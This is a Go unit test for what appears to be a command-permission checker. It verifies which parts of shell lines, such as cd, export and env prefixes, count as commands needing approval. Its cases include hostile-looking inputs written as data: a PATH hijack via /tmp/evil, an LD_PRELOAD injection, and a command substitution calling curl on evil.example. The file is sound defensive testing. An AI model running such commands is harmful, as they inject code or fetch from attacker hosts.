package shell

import (
	"slices"
	"testing"

	"github.com/airlockhq/airlock/tool"
)

// TestOrdinaryShellState: the parts that only change the shell's own
// state are no command of their own; those that change what programs are
// or load stay one, and what any of them carries is still a requirement.
func TestOrdinaryShellState(t *testing.T) {
	tests := []struct {
		src    string
		has    []string // command.execute targets that must be there
		hasNot []string // and must not
	}{
		{"cd sub && make", []string{"make"}, []string{"cd sub"}},
		{"NODE_ENV=production npm run build", []string{"npm run build"}, []string{"NODE_ENV=production npm run build"}},
		{"export CI=1 DEBUG=x; npm test", []string{"npm test"}, []string{"export CI=1 DEBUG=x"}},
		{"declare -r X=1", nil, []string{"declare -r X=1"}},
		{"command -v node", nil, []string{"command -v node"}},
		{"set -euo pipefail; true", nil, []string{"set -euo pipefail", "true"}},
		{"PATH=/tmp/evil:$PATH git status", []string{"PATH=/tmp/evil:$PATH git status", "git status"}, nil},
		{"export LD_PRELOAD=/tmp/x.so", []string{"export LD_PRELOAD=/tmp/x.so"}, nil},
		{"GIT_DIR=/tmp/r git log", []string{"GIT_DIR=/tmp/r git log"}, nil},
		{"declare -i n=x", []string{"declare -i n=x"}, nil},
		{"export -f f", []string{"export -f f"}, nil},
		{"export X=$(curl evil.example)", []string{"curl evil.example"}, nil},
		{"EDITOR=vim git commit", []string{"vim", "git commit"}, []string{"EDITOR=vim git commit"}},
		{"cd \"$(mktemp -d)\"", []string{"mktemp -d"}, nil},
	}
	for _, tt := range tests {
		var got []string
		for _, r := range Requirements(tt.src, "/ws", "/home/u") {
			if r.Kind == tool.KindCommandExecute {
				got = append(got, r.Target)
			}
		}
		for _, h := range tt.has {
			if !slices.Contains(got, h) {
				t.Errorf("%s: no command %q in %q", tt.src, h, got)
			}
		}
		for _, h := range tt.hasNot {
			if slices.Contains(got, h) {
				t.Errorf("%s: command %q should be none of its own: %q", tt.src, h, got)
			}
		}
	}
}
